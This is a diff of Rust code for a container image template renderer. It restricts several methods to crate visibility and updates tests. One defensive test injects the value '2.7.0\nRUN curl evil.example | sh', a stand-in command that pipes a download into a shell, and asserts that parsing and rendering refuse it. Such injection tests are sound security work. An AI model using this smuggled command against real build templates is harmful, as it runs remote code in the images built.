@@ -157,13 +157,13 @@ impl Templates {
     }
 
     /// These templates with the matrix's step fragments (path as written → text).
-    pub fn with_fragments(mut self, fragments: BTreeMap<String, String>) -> Templates {
+    pub(crate) fn with_fragments(mut self, fragments: BTreeMap<String, String>) -> Templates {
         self.fragments = fragments;
         self
     }
 
     /// sha256 of each step fragment, by path, for the fingerprints of the images using it.
-    pub fn fragment_digests(&self) -> BTreeMap<String, Digest> {
+    pub(crate) fn fragment_digests(&self) -> BTreeMap<String, Digest> {
         self.fragments
             .iter()
             .map(|(path, text)| (path.clone(), Digest::of(text.as_bytes())))
@@ -172,12 +172,12 @@ impl Templates {
 
     /// Whether images of `variant` render from the embedded template, which installs from the
     /// image's lock (so such a matrix locks its images).
-    pub fn embedded_for(&self, variant: Variant) -> bool {
+    pub(crate) fn embedded_for(&self, variant: Variant) -> bool {
         !self.overridden.contains(template_name(variant))
     }
 
     /// The embedded templates with `overrides` (name → text) laid over them.
-    pub fn with_overrides(overrides: BTreeMap<String, String>) -> Templates {
+    pub(crate) fn with_overrides(overrides: BTreeMap<String, String>) -> Templates {
         let mut templates = Self::embedded();
         templates.overridden = overrides.keys().cloned().collect();
         templates.sources.extend(overrides);
@@ -759,11 +759,11 @@ mod tests {
         for os in ["debian12", "ubuntu24.04"] {
             options.locked_cuda.insert(
                 format!("2.13.0-cuda13.0-cudnn9-runtime-{os}"),
-                crate::resolve::lock::locked_cuda(runtime_lock),
+                crate::resolve::lock::locked_cuda(runtime_lock).unwrap(),
             );
             options.locked_cuda.insert(
                 format!("2.13.0-cuda13.0-cudnn9-devel-{os}"),
-                crate::resolve::lock::locked_cuda(&devel_lock),
+                crate::resolve::lock::locked_cuda(&devel_lock).unwrap(),
             );
         }
         let images = resolve(&matrix, &Knowledge::test_fixture(), &options).images;
@@ -1095,13 +1095,13 @@ mod tests {
         // A version field cannot even hold it: the type refuses the text ...
         let unsafe_text = "2.7.0\nRUN curl evil.example | sh";
         assert!(crate::model::axes::VersionText::parse(unsafe_text).is_err());
-        // ... and a field still kept as text (the lock's CUDA runtime) is refused at render.
-        images[0].cuda_runtime = Some(unsafe_text.to_string());
+        // ... and a field still kept as text (the wheel's GPU arch list) is refused at render.
+        images[0].archs = vec![unsafe_text.to_string()];
         let error = render_all(&images, &matrix, &Templates::embedded(), None)
             .unwrap_err()
             .to_string();
         assert!(
-            error.contains("refusing to render unsafe value for cuda_runtime"),
+            error.contains("refusing to render unsafe value for archs"),
             "{error}"
         );
     }
